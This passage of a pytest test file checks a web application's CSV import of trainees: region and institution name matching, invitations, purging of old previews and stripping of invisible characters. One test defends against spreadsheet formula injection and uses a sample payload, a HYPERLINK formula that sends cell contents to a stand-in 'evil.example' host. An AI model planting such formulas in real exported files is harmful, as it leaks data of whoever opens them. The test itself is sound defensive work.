    assert [services.message(p) for p in problems] == []
    assert [row["region_code"] for row in clean] == list(written.values())
    clean, problems = services.check_rows("PE", rows[:1])
    assert codes(problems) == [(2, "region")]


def test_a_chilean_region_is_found_with_its_number_after_region(app, make_user):
    """"Región XIV de Los Ríos", "Región XIV Los Ríos": the number after the word, as Chileans write it too, was
    refused as no region. A number that is another region's than the name's is not taken for either."""
    written = {"Región XIV de Los Ríos": "CL-LR", "Región XIV Los Ríos": "CL-LR", "Region IX Araucania": "CL-AR",
               "Región V de Valparaíso": "CL-VS", "Región XIII Metropolitana de Santiago": "CL-RM",
               "Región VIII - Biobío": "CL-BI", "REGIÓN X: LOS LAGOS": "CL-LL", "Región XIV": "CL-LR"}
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
            for n, region in enumerate(written, start=2)]
    clean, problems = services.check_rows("CL", rows)
    assert [services.message(p) for p in problems] == []
    assert [row["region_code"] for row in clean] == list(written.values())
    clean, problems = services.check_rows("CL", [dict(rows[0], line=n, email=f"m{n}@example.org", region=region)
                                                 for n, region in enumerate(("Región V de Los Ríos",
                                                                             "XIV Región de Valparaíso",
                                                                             "Región de Los Ríos (V)"), start=2)])
    assert [row["region_code"] for row in clean] == [None, None, None]
    assert [p["field"] for p in problems] == ["region"] * 3


def test_an_argentine_province_is_found_with_its_type(app, make_user):
    """Argentina's regions are its provinces, and its lists write them so ("Provincia de Córdoba", "Pcia. de Santa
    Fe"); elsewhere a province is another division ("Provincia de Lima" is not Lima), and stays unknown."""
    written = {"Provincia de Córdoba": "AR-X", "Provincia del Neuquén": "AR-Q", "Pcia. de Santa Fe": "AR-S",
               "provincia de mendoza": "AR-M"}
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
            for n, region in enumerate(written, start=2)]
    clean, problems = services.check_rows("AR", rows)
    assert [services.message(p) for p in problems] == []
    assert [row["region_code"] for row in clean] == list(written.values())
    clean, problems = services.check_rows("PE", [dict(rows[0], region="Provincia de Junín")])
    assert codes(problems) == [(2, "region_near")] and clean[0]["region_code"] is None  # suggested, not taken


def test_a_region_mistyped_by_a_letter_gets_the_name_meant(app, make_user):
    """"Antioqia" was refused as no region, with no hint, where a mistyped institution gets "did you mean"; a
    name nothing like any region's still gets the plain message."""
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
            for n, region in enumerate(("Antioqia", "Cundinamraca", "Atlántida"), start=2)]
    clean, problems = services.check_rows("CO", rows)
    assert [services.message(p) for p in problems] == [
        "No region called “Antioqia” in this country: did you mean “Antioquia”?",
        "No region called “Cundinamraca” in this country: did you mean “Cundinamarca”?",
        "No region called “Atlántida” in this country"]
    assert [row["region_code"] for row in clean] == [None, None, None]  # nothing is taken for granted


def test_a_region_written_by_the_first_words_of_its_name_gets_the_name_meant(app, make_user):
    """"Minas" for Minas Gerais, "Nuevo" for Nuevo León: the start of one region's name was refused with no hint,
    though the README promises the closest name. Only a start that is one region's: "Rio" (three states) and
    "Rio Grande" (two) name none, and nothing is taken for granted."""
    cases = {"BR": ("Minas", "Rio", "Rio Grande", "Mato Grosso"), "MX": ("Nuevo", "Baja")}
    said, taken = [], []
    for country, regions in cases.items():
        rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": region}
                for n, region in enumerate(regions, start=2)]
        clean, problems = services.check_rows(country, rows)
        said += [services.message(p) for p in problems]
        taken += [row["region_code"] for row in clean]
    assert taken == [None, None, None, "BR-MT", None, None]  # a whole name that starts another is itself
    assert said == [
        "No region called “Minas” in this country: did you mean “Minas Gerais”?",
        "No region called “Rio” in this country",
        "No region called “Rio Grande” in this country",
        "No region called “Nuevo” in this country: did you mean “Nuevo León”?",
        "No region called “Baja” in this country"]


def test_the_short_names_officials_write_for_regions_are_found_in_every_country(app, make_user):
    """ISO 3166-2 names some regions in full ("Coahuila de Zaragoza", "Veracruz de Ignacio de la Llave", "El
    Callao", "San Andrés, Providencia y Santa Catalina"): the short names every official writes were refused as no
    region of the country."""
    written = {
        "MX": {"Coahuila": "MX-COA", "Michoacán": "MX-MIC", "Michoacan": "MX-MIC", "Veracruz": "MX-VER",
               "Estado de México": "MX-MEX", "Edomex": "MX-MEX", "CDMX": "MX-CMX", "Querétaro de Arteaga": "MX-QUE"},
        "CO": {"San Andrés": "CO-SAP", "San Andrés y Providencia": "CO-SAP", "Bogotá D.C.": "CO-DC",
               "Valle": "CO-VAC", "Norte de Santander": "CO-NSA"},
        "PE": {"Callao": "PE-CAL", "Cuzco": "PE-CUS", "Áncash": "PE-ANC", "Lima Metropolitana": "PE-LMA",
               "Lima Provincias": "PE-LIM"},
        "AR": {"Tierra del Fuego, Antártida e Islas del Atlántico Sur": "AR-V", "CABA": "AR-C",
               "Provincia de Buenos Aires": "AR-B", "Buenos Aires": "AR-B"},
        "BR": {"DF": "BR-DF", "Brasília": "BR-DF", "SP": "BR-SP", "Estado do Rio de Janeiro": "BR-RJ"},
    }
    for country, names in written.items():
        rows = [{"line": n, "email": f"p{n}@example.org", "full_name": "P", "position": "manager", "region": name}
                for n, name in enumerate(names, start=2)]
        clean, problems = services.check_rows(country, rows)
        assert [services.message(p) for p in problems] == [], country
        assert [row["region_code"] for row in clean] == list(names.values()), country



def test_a_name_of_characters_that_show_nothing_is_no_name(app, make_user):
    """A Hangul filler (U+3164) counts as a letter, so a name of fillers alone passed the import, where the
    person form refuses it: lists showed a blank name."""
    rows = [{"line": n, "email": f"p{n}@example.org", "full_name": name, "position": "manager"}
            for n, name in enumerate(["\u3164", "\u3164\u115f", "\u200b", "Ana\u3164", "Ana Pérez"], start=2)]
    _, problems = services.check_rows("CL", rows)
    assert [(p["line"], p["code"]) for p in problems] == [(2, "no_letters"), (3, "no_letters"), (4, "no_letters")]

def test_an_institution_spelled_slightly_otherwise_is_reported_with_the_name_to_write(app, make_user,
                                                                                     make_institution):
    """"No institution called “Gobierno Regional del Bio Bio”" left the coordinator guessing how Itinera spells
    it: the problem names the closest institution of the country, and otherwise says where the names are."""
    make_institution(country="CL", name="Gobierno Regional del Biobío")
    make_institution(country="AR", name="Gobierno Regional del Bio Bio (AR)")  # never suggested to Chile
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", country_code="CL", data=csv(
        "a@example.org;Ana;manager;Gobierno Regional del Bio Bio;;",
        "b@example.org;Bea;manager;Ministry of Magic;;"))
    assert [services.message(p) for p in batch.problems] == [
        "No institution called “Gobierno Regional del Bio Bio” in this country: did you mean “Gobierno Regional "
        "del Biobío”? Write its name as Itinera has it",
        "No institution called “Ministry of Magic” in this country: write the name as the list of institutions "
        "has it, or add the institution there first"]


def test_a_list_of_many_institutions_spelled_otherwise_is_checked_within_a_fixed_work(app, make_user, make_institution):
    """Each name was compared with every institution of the country in search of a near one: 2,000 people of
    2,000 municipalities spelled otherwise, in a country with 300, took 40 s (a server stops a request long
    before). Near names are sought within a fixed number of comparisons (a few seconds' work, the same on every
    server, so the same file always gets the same report); the others are reported without one."""
    for number in range(300):
        make_institution(country="CL", name=f"Municipalidad de Comuna Número {number:04d} de la Región")
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", country_code="CL", data=csv(*(
        f"p{number}@example.org;Persona {number};manager;Municipalidad de la Comuna Nro {number:05d} Región;;"
        for number in range(2000))))
    assert [p["field"] for p in batch.problems] == ["institution"] * 2000  # every one reported
    codes = [p["code"] for p in batch.problems]
    sought = services.MAX_NEAR_COMPARISONS // 300  # names compared with all 300 institutions
    assert sought < 2000 and set(codes[:sought]) == {"institution_near"} and set(codes[sought:]) == {"institution"}


def test_an_address_that_has_an_account_says_what_to_do_with_its_line(app, make_user):
    """The problem list said only that the account exists: the coordinator was left to guess whether to change
    the address, or take the person out of the file (and how such a person joins the cohort)."""
    make_user(email="ya.esta@example.org", country="CL")
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", country_code="CL",
                             data=csv("YA.ESTA@example.org;Ya Está;manager;;;"))
    assert [services.message(p) for p in batch.problems] == [
        "An account with this e-mail address already exists: take this line out of the file (people who already "
        "have an account join a cohort from the cohort's page)"]


def test_an_address_with_an_account_in_another_country_is_not_sent_to_the_cohort_page(app, make_user):
    """Someone of another country (or an administrator, of none) cannot join this country's cohorts: the advice
    to add them from the cohort's page led the coordinator to a page that never lists them."""
    make_user(email="abroad@example.org", country="AR")
    make_user(email="staff@example.org", roles=("admin",), country=None)
    make_user(email="here@example.org", country="CL")
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="lista.csv", country_code="CL", data=csv(
        "abroad@example.org;A;manager;;;", "staff@example.org;S;manager;;;", "here@example.org;H;manager;;;"))
    assert codes(batch.problems) == [(2, "taken_elsewhere"), (3, "taken_elsewhere"), (4, "taken")]
    elsewhere = services.message(batch.problems[0])
    assert elsewhere == services.message(batch.problems[1])
    assert "another country" in elsewhere and "cohort" not in elsewhere and "AR" not in elsewhere
    assert "cohort's page" in services.message(batch.problems[2])


def test_the_list_of_problems_runs_no_formula_in_a_spreadsheet(app, make_user, monkeypatch):
    """A cell of the problems' CSV that starts with = + - @ runs as a formula where the file is opened: each is
    written as text, as the competence framework's export writes them. Today's messages start with their own
    words or a quotation mark; a translation may start with the value itself, as here."""
    import csv as csv_module

    monkeypatch.setitem(services.MESSAGES, "position", "%(value)s: write manager or technician")
    coordinator = make_user(roles=("coordinator",), country="CL")
    values = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1", "-1", "@SUM(A1)"]
    data = csv(*(f"p{n}@example.org;P;{value};;;" for n, value in enumerate(values)))
    batch = services.preview(coordinator, filename="list.csv", data=data, country_code="CL")
    body, _name = services.problems_csv(batch)
    rows = list(csv_module.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert [row[2] for row in rows[1:]] == [f"'{value}: write manager or technician" for value in values]


def test_the_invitations_an_import_did_not_send_are_sent_at_once_later(app, make_user, outbox):
    """1,200 people imported without invitations left 49 pages of Pending invitations, a button each: the
    import's people not invited yet are invited together, those invited since and those signed up left alone."""
    from app.auth import tokens
    from app.jobs.models import Job

    coordinator = make_user(roles=("coordinator",), country="CL")
    data = csv("ana@example.org;Ana;manager;;;", "beto@example.org;Beto;manager;;;",
               "ＣＡＲＬＡ＠example.org;Carla;manager;;;", "dani@example.org;Dani;manager;;;")
    batch = services.preview(coordinator, filename="a.csv", data=data, country_code="CL", send_invitations=False)
    assert services.uninvited(coordinator, batch) == []  # not imported yet
    services.run_import(coordinator, batch)
    db.session.commit()
    people = {u.email: u for u in db.session.scalars(sa.select(User).where(User.country_code == "CL"))}
    tokens.resend_invitation(coordinator, people["beto@example.org"])  # invited by hand since
    people["dani@example.org"].set_password("a long enough password")  # (an admin chose a password for Dani)
    db.session.commit()
    jobs = db.session.scalar(sa.select(sa.func.count()).select_from(Job))
    sent_before = len(outbox())
    assert [u.email for u in services.uninvited(coordinator, batch)] == ["ana@example.org", "carla@example.org"]

    assert services.send_missing_invitations(coordinator, batch) == 2
    db.session.commit()
    invited = [m.to_address for m in outbox()[sent_before:] if "/auth/invitation/" in (m.body or "")]
    assert sorted(invited) == ["ana@example.org", "carla@example.org"]
    assert services.uninvited(coordinator, batch) == []
    assert services.send_missing_invitations(coordinator, batch) == 0  # sent again (a double click): nothing more
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Job)) > jobs  # delivered in the background


def test_only_the_batchs_country_coordinator_sends_its_invitations(app, make_user):
    from werkzeug.exceptions import Forbidden

    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", data=csv("ana@example.org;Ana;manager;;;"),
                             country_code="CL", send_invitations=False)
    services.run_import(coordinator, batch)
    other = make_user(roles=("coordinator",), country="AR")
    with pytest.raises(Forbidden):
        services.send_missing_invitations(other, batch)
    with pytest.raises(Forbidden):
        services.uninvited(other, batch)


def test_institutions_named_in_greek_or_cyrillic_are_told_apart(app, make_user, make_institution):
    """Names were compared with their letters outside A–Z dropped: every institution of Greece or Bulgaria named
    in its own alphabet was "", so a row naming one took whichever was read last, and a row naming one that does
    not exist took it too, without a word."""
    interior = make_institution(country="GR", name="Υπουργείο Εσωτερικών")
    programme = make_institution(country="GR", name="Πρόγραμμα «Καινοτομία» – Αθήνα")
    attica = make_institution(country="GR", name="Περιφέρεια Αττικής")
    admin = make_user(roles=("admin",), country=None)
    data = csv("a@example.org;Ana;manager;υπουργείο εσωτερικών;;",
               "b@example.org;Beto;manager;Περιφέρεια Αττικής;;",
               "c@example.org;Carla;manager;Δήμος Αθηναίων;;",  # no such institution
               "d@example.org;Dora;manager;Περιφέρεια Αττι\u00adκής\u200b;;",  # copied with invisible characters
               "e@example.org;Eva;manager;Πρόγραμμα Καινοτομία Αθήνα;;")  # without its quotes and dash
    batch = services.preview(admin, filename="a.csv", data=data, country_code="GR")
    assert codes(batch.problems) == [(4, "institution")]
    rows, _problems = services.check_rows("GR", batch.rows)
    assert [row["institution_id"] for row in rows] == [interior.id, attica.id, None, attica.id, programme.id]


def test_the_people_still_to_invite_are_listed_and_counted_by_the_same_rule(app, make_user):
    """The page counts the people of an import still to invite, and the button invites a list of them: both come
    from one query, so the number shown is the number invited, whatever became of the people since."""
    from datetime import timedelta

    from app.auth import tokens
    from app.auth.models import AccountToken
    from app.db import utcnow

    coordinator = make_user(roles=("coordinator",), country="CL")
    admin = make_user(roles=("admin",), country=None)
    names = ("ana", "beto", "carla", "dani", "eva", "fede", "gabi")
    data = csv(*(f"{name}@example.org;{name.title()};manager;;;" for name in names))
    batch = services.preview(coordinator, filename="a.csv", data=data, country_code="CL", send_invitations=False)
    services.run_import(coordinator, batch)
    db.session.commit()
    people = {u.email.split("@")[0]: u for u in db.session.scalars(sa.select(User).where(User.country_code == "CL"))}
    people["beto"].is_active = False  # deactivated
    people["carla"].country_code = "AR"  # moved to another country
    people["dani"].set_password("a long enough password")  # signed up
    people["dani"].last_login_at = utcnow()
    tokens.resend_invitation(coordinator, people["eva"])  # invited since, and the link has expired
    db.session.flush()
    db.session.scalars(sa.select(AccountToken).where(AccountToken.user_id == people["eva"].id)).one().expires_at = \
        utcnow() - timedelta(days=1)
    tokens.withdraw_invitation(coordinator, people["fede"])  # the account removed...
    db.session.commit()
    make_user(email="fede@example.org", password=None, country="CL")  # ...and the address taken by someone else
    people["gabi"].roles = {Role.TRAINEE, Role.COORDINATOR}  # no longer a trainee only: only an admin invites her
    db.session.commit()

    for actor, expected in ((coordinator, ["ana"]), (admin, ["ana", "gabi"])):
        listed = [u.email.split("@")[0] for u in services.uninvited(actor, batch)]
        assert listed == expected
        assert services.uninvited_count(actor, batch) == len(listed)


def _aged(batch, days):
    """The batch as if uploaded (and, if imported, imported) ``days`` ago."""
    from datetime import timedelta

    from app.db import utcnow

    batch.created_at = utcnow() - timedelta(days=days)
    if batch.imported_at is not None:
        batch.imported_at = batch.created_at
    db.session.commit()


def test_previews_never_imported_lose_their_rows_after_a_week_and_imports_keep_their_record(app, make_user):
    """The rows of an uploaded file (names and addresses of people maybe never imported) were kept for ever. Past
    IMPORT_PREVIEW_DAYS they are dropped: an import keeps who imported how many people, from which file, when."""
    coordinator = make_user(roles=("coordinator",), country="CL")
    data = csv("ana@example.org;Ana;manager;;;", "beto@example.org;Beto;manager;;;")
    old_preview, new_preview, old_import = (
        services.preview(coordinator, filename=name, data=data, country_code="CL", send_invitations=False)
        for name in ("old.csv", "new.csv", "imported.csv"))
    services.run_import(coordinator, old_import)
    db.session.commit()
    _aged(old_preview, 8)
    _aged(old_import, 8)
    _aged(new_preview, 6)

    assert services.purge_expired() == (1, 1)
    db.session.commit()
    assert old_preview.rows == [] and old_preview.problems == [] and old_preview.purged_at is not None
    assert new_preview.rows != [] and new_preview.purged_at is None
    assert old_import.rows == [] and old_import.purged_at is not None
    assert (old_import.filename, old_import.imported_count, old_import.created_by_id, old_import.imported_at) \
        == ("imported.csv", 2, coordinator.id, old_import.created_at)
    # the import's people are still known: those never invited can still be invited from its page
    assert [u.email for u in services.uninvited(coordinator, old_import)] == ["ana@example.org", "beto@example.org"]
    with pytest.raises(ValidationError):  # a purged preview imports nothing
        services.run_import(coordinator, old_preview)
    db.session.rollback()
    assert services.purge_expired() == (0, 0)  # done once


def test_how_long_previews_are_kept_is_configured(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", data=csv("ana@example.org;Ana;manager;;;"),
                             country_code="CL")
    _aged(batch, 3)
    assert services.purge_expired() == (0, 0)
    app.config["IMPORT_PREVIEW_DAYS"] = 2
    assert services.purge_expired() == (1, 0)


def test_an_upload_purges_the_previews_left_too_long(app, make_user):
    coordinator = make_user(roles=("coordinator",), country="CL")
    other = make_user(roles=("coordinator",), country="AR")
    batch = services.preview(coordinator, filename="a.csv", data=csv("ana@example.org;Ana;manager;;;"),
                             country_code="CL")
    _aged(batch, 8)
    services.preview(other, filename="b.csv", data=csv("beto@example.org;Beto;manager;;;"), country_code="AR")
    db.session.commit()
    assert batch.rows == [] and batch.purged_at is not None


def test_the_purge_command_reports_what_it_purged(app, runner, make_user):
    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", data=csv("ana@example.org;Ana;manager;;;"),
                             country_code="CL")
    _aged(batch, 8)
    result = runner.invoke(args=["imports", "purge"])
    assert result.exit_code == 0, result.output
    assert "1 preview never imported and 0 imports emptied" in result.output
    db.session.expire_all()
    assert db.session.get(type(batch), batch.id).rows == []


def test_an_import_inserts_its_accounts_and_their_links_many_in_a_statement(app, make_user):
    """On SQLite an import inserted its accounts and their invitation links one statement each (SQLAlchemy could
    not match the ids returned to the rows): 10,000 statements for 5,000 people. It does now by their unique
    random values (User.uuid, AccountToken.token_hash), as it always did on PostgreSQL."""
    from tests.queries import statements_during

    coordinator = make_user(roles=("coordinator",), country="CL")
    batch = services.preview(coordinator, filename="a.csv", country_code="CL",
                             data=csv(*(f"p{n}@example.org;Persona {n};manager;;;" for n in range(30))))
    db.session.commit()
    _count, statements = statements_during(lambda: services.run_import(coordinator, batch))
    inserts = [s.split("(")[0].split()[2].strip('"') for s in statements if s.startswith("INSERT")]
    assert inserts.count("user") == 1 and inserts.count("account_token") == 1
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User).where(User.country_code == "CL")) == 31


def test_invitations_sent_together_say_when_each_link_ends_in_the_persons_own_zone(app, make_user, outbox,
                                                                                      monkeypatch):
    """Their links end at the same moment: it is written once per zone (5,000 times, it took a good part of an
    import's time), and still in each person's own."""
    from app.auth import tokens

    written = []
    monkeypatch.setattr(tokens, "moment_for", lambda *args: written.append(args) or tokens_moment_for(*args))
    people = [make_user(country="CL", password=None, email=f"{name}@example.org", locale="en")
              for name in ("ana", "beto", "carla")]
    people[1].timezone = "America/Punta_Arenas"
    db.session.commit()
    tokens.send_invitations(make_user(roles=("coordinator",), country="CL"), people)
    db.session.commit()
    bodies = {m.to_address: m.body for m in outbox()}
    assert "(Santiago, GMT-03:00)" in bodies["ana@example.org"] and "(Santiago" in bodies["carla@example.org"]
    assert "Punta Arenas" in bodies["beto@example.org"] and "Santiago" not in bodies["beto@example.org"]
    assert len(written) == 2


def test_a_name_is_imported_without_the_characters_that_show_nothing(app, make_user):
    """A name copied into the list with a zero-width space, a soft hyphen or a direction override in it was
    imported with them, as the person form no longer keeps them: the people list showed the name as it looks, and
    a search for what it looks like missed it. The joiners of letters and emoji stay."""
    admin = make_user(roles=("admin",), country=None)
    data = csv("ana@example.org;\u202eAna\u200b Pé\u00adrez\u2060\ufeff;manager;;;",
               "bea@example.org;Bea 👩\u200d💻 \u0645\u200c\u0646;manager;;;")
    batch = services.preview(admin, filename="a.csv", data=data, country_code="CL")
    assert batch.problems == []
    services.run_import(admin, batch)
    names = db.session.scalars(sa.select(User.full_name).where(User.email.in_(["ana@example.org",
                                                                               "bea@example.org"]))).all()
    assert sorted(names) == ["Ana Pérez", "Bea 👩\u200d💻 \u0645\u200c\u0646"]
